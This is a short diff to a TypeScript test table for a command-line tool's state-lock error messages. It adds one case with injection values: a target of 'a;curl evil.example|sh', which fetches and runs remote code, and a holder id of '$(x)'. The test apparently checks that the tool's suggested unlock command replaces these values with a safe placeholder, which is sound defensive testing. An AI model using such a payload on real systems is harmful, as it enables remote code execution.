@@ -45,6 +45,10 @@ const rows: readonly (readonly [StateProblem, readonly string[]])[] = [
     ],
   ],
   [{ kind: "locked", key }, ["does not say who holds it", "tasc state unlock shop"]],
+  [
+    { kind: "locked", key: { ...key, target: "a;curl evil.example|sh" }, holder: { ...holder, id: "$(x)" } },
+    ["\n  tasc state unlock TARGET --stage staging"],
+  ],
   [{ kind: "lock-lost", key, reason: "its file is gone" }, ["Its file is gone.", "Run tasc again"]],
   [{ kind: "changed", where }, [where, "Run tasc again"]],
   [{ kind: "failed", where, reason: "EACCES: permission denied" }, [where, "EACCES", "Check that"]],
